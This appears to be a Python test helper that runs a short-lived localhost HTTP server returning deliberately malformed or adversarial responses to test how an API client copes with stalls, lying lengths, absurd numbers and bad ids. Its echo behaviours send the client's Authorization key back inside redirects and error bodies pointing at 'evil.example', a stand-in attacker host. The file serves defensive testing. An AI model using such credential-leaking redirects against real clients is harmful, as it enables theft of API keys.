"""A hostile HTTP peer for the tests: a raw-socket server on 127.0.0.1 (TLS with trustme
certificates when asked) that reads each request in full, records it, then answers with a
scripted behaviour nothing in http.server would produce: a status line dripped a byte at a
time, headers without end, a body without end, garbage, a Content-Length that lies, a drop,
only ``1xx`` answers, status 999, an HTML page with 200, a redirect; numbers built to break a
reader (a Content-Length of 5000 digits, a recipient error code "²"), ids that are not ids, a
Retry-After of minutes; and (``ECHOES``) answers that carry the request's own key back, plain,
JSON-escaped, URL-encoded and base64.

Bounded in time: every behaviour stops when the peer stops, and the peer stops itself after
``lifetime`` seconds whatever the client does. ``requests`` records what arrived (method, path,
headers, body), so a test can count POSTs (a second one would be a duplicate) and see where the
Authorization header went.
"""

from __future__ import annotations

import base64
import socket
import ssl
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import chain
from typing import Any

import trustme

from support.net import tls_server_context

__all__ = ["BEHAVIOURS", "ECHOES", "HostilePeer", "Seen"]

_OK_JSON = b'{"results":{"id":"5555","total_accepted_recipients":1,"total_rejected_recipients":0}}'


@dataclass
class Seen:
    method: str
    path: str
    headers: dict[str, str]  # lower-case names
    body: bytes


def _endless(chunk: bytes) -> Iterator[bytes]:
    while True:
        yield chunk


def _drip(data: bytes) -> Iterator[bytes]:
    for i in range(len(data)):
        yield data[i : i + 1]


def _status(code: int, body: bytes, *headers: str) -> bytes:
    head = [f"HTTP/1.1 {code} X", f"Content-Length: {len(body)}", *headers]
    return ("\r\n".join(head) + "\r\n\r\n").encode() + body


_GOOD = _status(200, _OK_JSON, "Content-Type: application/json")


def _rcpt_error(code: str) -> bytes:
    doc = (
        '{"results":{"id":"6666","total_accepted_recipients":0,"total_rejected_recipients":1,'
        f'"rcpt_to_errors":[{{"code":"{code}","message":"recipient refused"}}]}}}}'
    )
    return _status(200, doc.encode("utf-8"), "Content-Type: application/json")


def _with_id(raw: str) -> bytes:
    return _status(200, b'{"results":{"id":' + raw.encode() + b"}}")

# name -> (what to send: bytes, or an iterator of pieces (endless ones are generators, never
#          lists), seconds between pieces). HANG_UP: close after it; others but "good" hold on.
BEHAVIOURS: dict[str, Callable[[], tuple[Iterator[bytes] | bytes, float]]] = {
    "good": lambda: (_GOOD, 0),
    "drip_status": lambda: (_drip(_GOOD), 0.2),  # 1 byte / 0.2 s: ~22 s for the answer
    "endless_headers": lambda: (
        chain([b"HTTP/1.1 200 OK\r\n"], _endless(b"X-Filler: aaaaaaaaaaaaaaaaaaaaaaaa\r\n" * 50)),
        0.001,
    ),
    "slow_endless_headers": lambda: (
        chain([b"HTTP/1.1 200 OK\r\n"], _endless(b"X-A: b\r\n")),
        0.05,
    ),
    "endless_body": lambda: (
        chain([b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n"], _endless(b"[" * 8192)),
        0.0005,
    ),
    "endless_chunked": lambda: (
        chain([b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"],
              _endless(b"2000\r\n" + b"{" * 0x2000 + b"\r\n")),
        0.0005,
    ),
    "huge_length": lambda: (b"HTTP/1.1 200 OK\r\nContent-Length: 99999999999\r\n\r\n{", 0),
    "garbage": lambda: (b"220 smtp.example.com ESMTP ready\r\n\x00\xff\xfe garbage\r\n\r\n", 0),
    "length_lie_long": lambda: (
        b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n" + _OK_JSON,
        0,
    ),  # then holds the connection open: the 500 bytes never come
    "length_lie_short": lambda: (
        b"HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n" + _OK_JSON + _GOOD,
        0,
    ),  # 20 bytes of the JSON, then bytes that look like the next answer
    "drop": lambda: (b"", 0),
    "only_1xx": lambda: (iter(_endless(b"HTTP/1.1 100 Continue\r\n\r\n")), 0.01),
    "status_102": lambda: (b"HTTP/1.1 102 Processing\r\n\r\n", 0),  # then nothing
    "status_999": lambda: (_status(999, _OK_JSON), 0),
    "status_600": lambda: (_status(600, b""), 0),
    "html_200": lambda: (_status(200, b"<html><body>Welcome to the hotel wifi</body></html>"), 0),
    "json_200_no_id": lambda: (_status(200, b'{"results":{}}'), 0),
    "two_lengths": lambda: (
        b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 90\r\n\r\n" + _OK_JSON,
        0,
    ),
    "status_303": lambda: (_status(303, b"", "Location: /api/v1/transmissions/5555"), 0),
    "silent": lambda: (iter(()), 0),  # reads the request, says nothing, holds on
    # numbers no int() takes: 5000 digits (over Python's 4300-digit limit), a superscript digit
    "length_5000_digits": lambda: (b"HTTP/1.1 200 OK\r\nContent-Length: " + b"9" * 5000
                                   + b"\r\n\r\n" + _OK_JSON, 0),
    "length_5000_zeros": lambda: (b"HTTP/1.1 200 OK\r\nContent-Length: " + b"0" * 4999
                                  + b"5\r\n\r\nhello", 0),
    "rcpt_code_superscript": lambda: (_rcpt_error("\u00b2"), 0),
    "rcpt_code_5000_digits": lambda: (_rcpt_error("1" * 5000), 0),
    # a 2xx whose id is not a transmission's id
    "id_true": lambda: (_with_id("true"), 0),
    "id_object": lambda: (_with_id("{}"), 0),
    "id_empty": lambda: (_with_id('""'), 0),
    "id_zero": lambda: (_with_id("0"), 0),
    "id_float": lambda: (_with_id("1e999"), 0),
    # the API clearly says "not now", and asks for minutes, or for a few seconds
    "busy_299": lambda: (_status(503, b"{}", "Retry-After: 299"), 0),
    "busy_20": lambda: (_status(503, b"{}", "Retry-After: 20"), 0),
}
HANG_UP = {"drop", "garbage", "status_999", "status_600", "html_200", "json_200_no_id",
           "length_5000_zeros", "rcpt_code_superscript", "rcpt_code_5000_digits", "id_true",
           "id_object", "id_empty", "id_zero", "id_float", "busy_299", "busy_20"}  # fmt: skip


def _key_of(seen: Seen) -> str:
    return seen.headers.get("authorization", "")


def _u_escaped(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def _pct(text: str) -> str:
    return "".join(f"%{b:02X}" for b in text.encode())


def _b64(text: str) -> str:
    return base64.b64encode(f"api:{text}".encode()).decode()


def _echo_errors(seen: Seen) -> bytes:
    key = _key_of(seen)
    doc = (
        f'{{"errors":[{{"message":"you sent {_u_escaped(key)}",'
        f'"description":"see https://evil.example/?k={_pct(key)} or Basic {_b64(key)}",'
        f'"code":"{_u_escaped(key[:3])}{key[3:]}"}}]}}'
    )
    return _status(422, doc.encode("ascii"), "Content-Type: application/json")


# name -> the answer, made from the request: the key (its Authorization header) echoed back.
# The peer hangs up after each.
ECHOES: dict[str, Callable[[Seen], bytes]] = {
    "echo_location": lambda seen: _status(
        307, b"", f"Location: http://evil.example/?k={_key_of(seen)}"
    ),
    "echo_location_pct": lambda seen: _status(
        307, b"", f"Location: http://evil.example/?k={_pct(_key_of(seen))}"
    ),
    "echo_errors": _echo_errors,
    # a 2xx without an id whose raw body (shown as is) holds the key JSON-escaped
    "echo_200_no_id": lambda seen: _status(
        200, f'{{"results":{{}},"note":"{_u_escaped(_key_of(seen))}"}}'.encode()
    ),
}


class HostilePeer:
    """Serves ``behaviour`` on every connection, or the n-th of a list on the n-th connection
    (the last one from there on). ``redirect_to``: answer 307 to that URL instead."""

    def __init__(
        self,
        behaviour: str | list[str] = "good",
        *,
        ca: trustme.CA | None = None,
        cert_hosts: tuple[str, ...] = ("127.0.0.1", "localhost"),
        lifetime: float = 20.0,
        redirect_to: str | None = None,
        max_connections: int = 8,
    ) -> None:
        self.behaviour = behaviour
        self.redirect_to = redirect_to
        self.requests: list[Seen] = []
        self.connections = 0
        self.lock = threading.Lock()
        self.stopped = threading.Event()
        self.context: ssl.SSLContext | None = None
        if ca is not None:
            self.context = tls_server_context(ca, cert_hosts)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.settimeout(0.1)
        self.port = self.listener.getsockname()[1]
        self._max = max_connections
        self._threads: list[threading.Thread] = []
        self._accepting = threading.Thread(target=self._accept, daemon=True)
        self._timer = threading.Timer(lifetime, self.stop)
        self._timer.daemon = True

    def url(self, host: str = "127.0.0.1") -> str:
        scheme = "https" if self.context is not None else "http"
        return f"{scheme}://{host}:{self.port}/api/v1"

    def posts(self) -> list[Seen]:
        with self.lock:
            return [r for r in self.requests if r.method == "POST"]

    def start(self) -> HostilePeer:
        self._accepting.start()
        self._timer.start()
        return self

    def stop(self) -> None:
        self.stopped.set()
        self._timer.cancel()
        if self._accepting.is_alive() and threading.current_thread() is not self._accepting:
            self._accepting.join(5)
        for t in self._threads:
            if t is not threading.current_thread():
                t.join(5)
        self.listener.close()

    def __enter__(self) -> HostilePeer:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    # --- serving ------------------------------------------------------------------------

    def _accept(self) -> None:
        while not self.stopped.is_set():
            try:
                conn, _ = self.listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with self.lock:
                self.connections += 1
                if self.connections > self._max:
                    conn.close()  # a client in a loop: bounded in count, too
                    continue
                plan = self.behaviour
                if isinstance(plan, list):
                    plan = plan[min(self.connections, len(plan)) - 1]
            t = threading.Thread(target=self._serve, args=(conn, plan), daemon=True)
            self._threads.append(t)
            t.start()

    def _serve(self, conn: socket.socket, behaviour: str) -> None:
        sock: Any = conn
        try:
            conn.settimeout(5)
            if self.context is not None:
                sock = self.context.wrap_socket(conn, server_side=True)
            while not self.stopped.is_set():
                seen = self._read_request(sock)
                if seen is None:
                    return
                with self.lock:
                    self.requests.append(seen)
                if behaviour in ECHOES:
                    sock.sendall(ECHOES[behaviour](seen))
                    return
                if not self._answer(sock, behaviour):
                    return
        except (OSError, ssl.SSLError, ValueError):
            return
        finally:
            sock.close()

    def _read_request(self, sock: Any) -> Seen | None:
        data = b""
        while b"\r\n\r\n" not in data:
            if self.stopped.is_set() or len(data) > 1 << 20:
                return None
            try:
                piece = sock.recv(65536)
            except TimeoutError:
                continue
            if not piece:
                return None
            data += piece
        head, _, body = data.partition(b"\r\n\r\n")
        first, *lines = head.decode("latin-1").split("\r\n")
        method, path, _ = [*first.split(" ", 2), "", ""][:3]
        headers = {}
        for line in lines:
            name, _, value = line.partition(":")
            headers[name.strip().lower()] = value.strip()
        length = int(headers.get("content-length", "0") or 0)
        while len(body) < length:
            piece = sock.recv(65536)
            if not piece:
                return None
            body += piece
        return Seen(method, path, headers, body)

    def _answer(self, sock: Any, behaviour: str) -> bool:
        """Play the behaviour; whether the connection may carry another request."""
        if self.redirect_to is not None:
            sock.sendall(_status(307, b"", f"Location: {self.redirect_to}/transmissions"))
            return True
        what, gap = BEHAVIOURS[behaviour]()
        pieces = iter([what]) if isinstance(what, bytes) else what
        for piece in pieces:
            if self.stopped.is_set():
                return False
            if piece:
                sock.sendall(piece)
            if gap and self.stopped.wait(gap):
                return False
        if behaviour in HANG_UP:
            return False
        if behaviour != "good":
            self.stopped.wait()  # hold the connection open, saying nothing more
            return False
        return True
